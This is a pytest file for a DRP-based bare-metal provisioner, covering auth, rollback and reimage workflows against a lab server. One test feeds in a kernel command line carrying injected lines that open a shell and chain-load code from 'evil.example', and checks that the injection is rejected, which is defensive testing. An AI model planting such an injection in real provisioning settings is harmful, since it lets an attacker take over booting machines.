"""The drp provisioner against the lab's Digital Rebar stand-in: real HTTP, token auth, PXE from DRP."""

from __future__ import annotations

import httpx
import pytest

from console.drivers.ssh import read_image
from console.errors import ActionError, AuthFailed
from console.lab.drp import PatchError, apply_patch
from console.ops.reimage import PHASES, PhaseTimeouts
from console.provision import open_provisioner
from console.provision.drp import DrpProvisioner
from console.secrets import Secret, Secrets
from tests.support import reimage_phases

SITE = """
site: t-drp
defaults:
  bmc: {protocol: redfish, scheme: http, username: admin, password: "lab:bmc"}
  image: flatcar@4081.2.1
images:
  - {name: flatcar, version: 4081.2.1, sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08,
     kernel: "http://127.0.0.1:8069/images/flatcar/4081.2.1/vmlinuz",
     initrd: "http://127.0.0.1:8069/images/flatcar/4081.2.1/initrd"}
  - {name: flatcar, version: 4152.2.0, kernel: "http://127.0.0.1:8069/images/flatcar/4152.2.0/vmlinuz",
     initrd: "http://127.0.0.1:8069/images/flatcar/4152.2.0/initrd"}
provisioner: {kind: drp, url: "http://127.0.0.1:8092", token: "lab:drp"}
ssh: {username: core, password: "lab:ssh", known_hosts: "lab:known_hosts"}
racks:
  - name: r01
    nodes:
      - name: drp-n[01-03]
        mac: "52:54:00:0d:00:[01-03]"
        host: 127.2.13.[1-3]
        bmc: {address: "127.1.13.[1-3]"}
      - {name: drp-n04, mac: "52:54:00:0d:00:04", host: 127.2.13.4, bmc: {protocol: ipmi, address: 127.1.13.4}}
"""



def test_json_patch_subset():
    doc = {"BootEnv": "local", "Params": {"a/b": 1}}
    out = apply_patch(doc, [{"op": "test", "path": "/BootEnv", "value": "local"},
                            {"op": "replace", "path": "/BootEnv", "value": "x"},
                            {"op": "remove", "path": "/Params/a~1b"}])
    assert out == {"BootEnv": "x", "Params": {}} and doc["BootEnv"] == "local"
    with pytest.raises(PatchError) as err:
        apply_patch(doc, [{"op": "test", "path": "/BootEnv", "value": "other"}])
    assert err.value.code == 409


async def test_api_speaks_drp_and_refuses_a_bad_token(site_lab, site_ctx):
    site, secrets = site_ctx
    url = site.provisioner.url
    async with httpx.AsyncClient(base_url=url) as http:
        r = await http.get("/api/v3/machines")
        assert r.status_code == 401 and r.json()["Code"] == 401 and r.json()["Messages"]
        r = await http.get("/api/v3/machines", headers={"Authorization": "Bearer nope"})
        assert r.status_code == 401
        token = secrets.resolve("lab:drp").get()
        auth = {"Authorization": f"Bearer {token}"}
        r = await http.get("/api/v3/machines", params={"Name": "drp-n02"}, headers=auth)
        (m,) = r.json()
        assert m["HardwareAddrs"] == ["52:54:00:0d:00:02"] and m["BootEnv"] == "local" and m["Uuid"]
        r = await http.patch(f"/api/v3/machines/{m['Uuid']}", headers=auth,
                             json=[{"op": "replace", "path": "/BootEnv", "value": "no-such-env"}])
        assert r.status_code == 422 and "does not exist" in r.json()["Messages"][0]
        # the provisioner side: DRP's default.ipxe chains to ${netX/mac}.ipxe, no token needed
        r = await http.get("/52:54:00:0d:00:02.ipxe")
        assert r.status_code == 200 and r.text.startswith("#!ipxe") and "exit" in r.text

    node = site.node("drp-n01")
    bad = DrpProvisioner(url, Secret("not-the-token"))
    try:
        with pytest.raises(AuthFailed, match=r"the API token was refused \(HTTP 401\)") as err:
            await bad.assignment(node)
        assert "not-the-token" not in str(err.value)
    finally:
        await bad.close()
    wrong = Secrets(lab={**site_lab.secrets, "drp": "not-the-token"})
    with pytest.raises(ActionError, match=r"^assign: drp provisioner: .*token was refused") as err:
        await reimage_phases(site, wrong, "drp-n01", "flatcar@4152.2.0")
    assert "not-the-token" not in str(err.value)
    assert site_lab.machine("drp-n01")["image"] == "flatcar@4081.2.1"


async def test_assign_reads_back_and_rolls_back(site_ctx):
    site, secrets = site_ctx
    node = site.node("drp-n03")
    prov = open_provisioner(site, secrets)
    was = "Workflow fleet-image-deploy (complete), BootEnv local"
    try:
        assert (await prov.assignment(node)).image is None
        assert await prov.previous(node) is None
        old = await prov.assign(node, site.image("flatcar@4152.2.0"))
        assert old.image is None and old.detail == was
        now = await prov.assignment(node)
        assert now.image == "flatcar@4152.2.0"
        assert now.detail == "Workflow fleet-image-deploy (stage fleet-image-deploy), BootEnv sledgehammer"
        m = await prov.machine(node)
        assert m["Params"]["fleet/image"]["kernel"].endswith("/images/flatcar/4152.2.0/vmlinuz")
        assert m["Params"]["fleet/previous"] == {"BootEnv": "local", "Workflow": "fleet-image-deploy", "image": None}
        assert m["CurrentTask"] == -1 and m["WorkflowComplete"] is False
        await prov.confirm(node)  # that reimage finished: the next assign records it for rollback
        await prov.assign(node, site.image("flatcar@4081.2.1"))
        assert (await prov.previous(node)).image == "flatcar@4152.2.0"
        back = await prov.rollback(node)  # the workflow is cleared: nothing runs on the next boot
        assert back.image == "flatcar@4152.2.0" and back.detail == "BootEnv sledgehammer"
        m = await prov.machine(node)
        assert m["Workflow"] == "" and m["Tasks"] == []
        await prov.assign(node, site.image("flatcar@4081.2.1"))  # no workflow now: auto is bootenv mode
        assert (await prov.assignment(node)).detail == "BootEnv fleet-install"
        await prov.rollback(node)
        await prov.assign(node, site.image("flatcar@4081.2.1"))
        assert (await prov.previous(node)).image == "flatcar@4152.2.0"
        assert await prov.fetches(node) is None  # bootenv mode: nothing runs a task, DRP sees no boot
    finally:
        await prov.close()


async def test_a_retried_assign_keeps_the_known_good_record(site_ctx):
    """An assignment that never finished (the node did not boot it) is not the rollback target."""
    site, secrets = site_ctx
    node = site.node("drp-n01")
    prov = open_provisioner(site, secrets)
    try:
        await prov.assign(node, site.image("flatcar@4152.2.0"))
        await prov.confirm(node)  # known-good
        await prov.assign(node, site.image("flatcar@4081.2.1"))  # attempt 1: interrupted
        assert (await prov.machine(node))["Params"]["fleet/image"]["state"] == "pending"
        await prov.assign(node, site.image("flatcar@4081.2.1"))  # attempt 2
        assert (await prov.previous(node)).image == "flatcar@4152.2.0"
        assert (await prov.rollback(node)).image == "flatcar@4152.2.0"
    finally:
        await prov.close()


async def test_an_injected_command_line_never_reaches_drp(site_ctx):
    site, secrets = site_ctx
    node = site.node("drp-n01")
    bad = site.image("flatcar@4152.2.0").model_copy(update={"cmdline": "quiet\nshell\nchain http://evil.example/x"})
    prov = open_provisioner(site, secrets)
    try:
        before = await prov.machine(node)
        with pytest.raises(ActionError, match=r"cmdline .* holds a line break"):
            await prov.assign(node, bad)
        assert (await prov.machine(node))["Params"] == before["Params"]
    finally:
        await prov.close()


async def test_reimage_through_drp(site_lab, site_ctx):
    """The done-when: a reimage follows the DRP workflow to WorkflowComplete."""
    site, secrets = site_ctx
    for name in ("drp-n02", "drp-n04"):  # a Redfish and an IPMI BMC
        phases = await reimage_phases(site, secrets, name, "flatcar@4152.2.0")
        assert [p for p, _ in phases] == list(PHASES)
        assert "DRP job fleet-image-deploy" in phases[2][1]
        state = site_lab.machine(name)
        assert state["image"] == "flatcar@4152.2.0" and state["last_boot_source"] == "pxe"
        assert state["pxe_fetches"][-1][1].endswith(f"/52:54:00:0d:00:0{name[-1]}.ipxe")
        assert (await read_image(site.node(name), site.ssh, secrets)).ref == "flatcar@4152.2.0"
    prov = open_provisioner(site, secrets)
    try:
        m = await prov.machine(site.node("drp-n02"))
        assert m["Workflow"] == "fleet-image-deploy" and m["WorkflowComplete"] is True
        assert m["Stage"] == "fleet-complete" and m["BootEnv"] == "local"  # next boot from disk
        assert m["JobState"] == "finished" and m["JobExitState"] == "complete"
        assert m["Params"]["fleet/image"]["state"] == "verified"
        (job,) = await prov.fetches(site.node("drp-n02"))
        assert job.what == "DRP job fleet-image-deploy finished"
    finally:
        await prov.close()


async def test_boot_env_without_image_times_out_in_verifying(site_lab, site_ctx):
    site, secrets = site_ctx
    token = secrets.resolve("lab:drp").get()
    url = site.provisioner.url

    def sabotage(phase):
        if phase == "assigned":  # someone clears the image param before the node boots
            with httpx.Client(base_url=url, headers={"Authorization": f"Bearer {token}"}) as http:
                (m,) = http.get("/api/v3/machines", params={"Name": "drp-n03"}).json()
                http.patch(f"/api/v3/machines/{m['Uuid']}/params",
                           json=[{"op": "remove", "path": "/fleet~1image"}]).raise_for_status()

    short = PhaseTimeouts(assigned=30, rebooting=30, installing=30, verifying=1.0, poll=0.05)
    with pytest.raises(ActionError) as err:
        await reimage_phases(site, secrets, "drp-n03", "flatcar@4152.2.0", short, on_phase=sabotage)
    assert str(err.value) == ("verifying: timed out after 1 s "
                              "(node still reports flatcar@4081.2.1, expected flatcar@4152.2.0)")
    assert "Script names no image" in site_lab.call("drp-n03", {"cmd": "serial", "node": "drp-n03"})["output"]


def _api(site, secrets):
    token = secrets.resolve("lab:drp").get()
    return httpx.Client(base_url=str(site.provisioner.url), headers={"Authorization": f"Bearer {token}"})


def _with(site, **prov):
    return site.model_copy(update={"provisioner": site.provisioner.model_copy(update=prov)})


async def test_a_failed_drp_job_fails_the_reimage_naming_it(site_lab, site_ctx):
    site, secrets = site_ctx
    with _api(site, secrets) as http:
        (m,) = http.get("/api/v3/machines", params={"Name": "drp-n01"}).json()
        http.post(f"/api/v3/machines/{m['Uuid']}/params/lab/fail-task",
                  json="fleet-image-deploy").raise_for_status()
    try:
        with pytest.raises(ActionError) as err:
            await reimage_phases(_with(site, mode="workflow"), secrets, "drp-n01", "flatcar@4152.2.0")
    finally:
        with _api(site, secrets) as http:
            http.patch(f"/api/v3/machines/{m['Uuid']}/params",
                       json=[{"op": "remove", "path": "/lab~1fail-task"}]).raise_for_status()
    assert str(err.value).startswith(
        "installing: DRP workflow fleet-image-deploy: stage fleet-image-deploy, task fleet-image-deploy (3/5), "
        "job failed/failed: the job failed: task fleet-image-deploy failed (lab/fail-task)")


async def test_bootenv_mode_refuses_a_machine_in_a_workflow_then_installs(site_lab, site_ctx):
    site, secrets = site_ctx
    bootenv = _with(site, mode="bootenv")
    with _api(site, secrets) as http:
        (m,) = http.get("/api/v3/machines", params={"Name": "drp-n02"}).json()
    assert m["Workflow"] == "fleet-image-deploy"
    with pytest.raises(ActionError, match=r"^assign: drp-n02: DRP machine is in Workflow fleet-image-deploy"):
        await reimage_phases(bootenv, secrets, "drp-n02", "flatcar@4081.2.1")
    with _api(site, secrets) as http:
        same = http.get(f"/api/v3/machines/{m['Uuid']}").json()
        assert same["Params"] == m["Params"] and same["BootEnv"] == "local"  # refused before any write
        http.patch(f"/api/v3/machines/{m['Uuid']}",
                   json=[{"op": "replace", "path": "/Workflow", "value": ""}]).raise_for_status()
    phases = await reimage_phases(bootenv, secrets, "drp-n02", "flatcar@4081.2.1")
    assert [p for p, _ in phases] == list(PHASES)
    assert phases[2][1] == "power on; booting"  # DRP sees no boot without a runner
    with _api(site, secrets) as http:
        done = http.get(f"/api/v3/machines/{m['Uuid']}").json()
    assert done["BootEnv"] == "local" and done["Params"]["fleet/image"]["state"] == "verified"
    assert done["Params"]["fleet/previous"]["image"]["version"] == "4152.2.0"
    assert site_lab.machine("drp-n02")["image"] == "flatcar@4081.2.1"
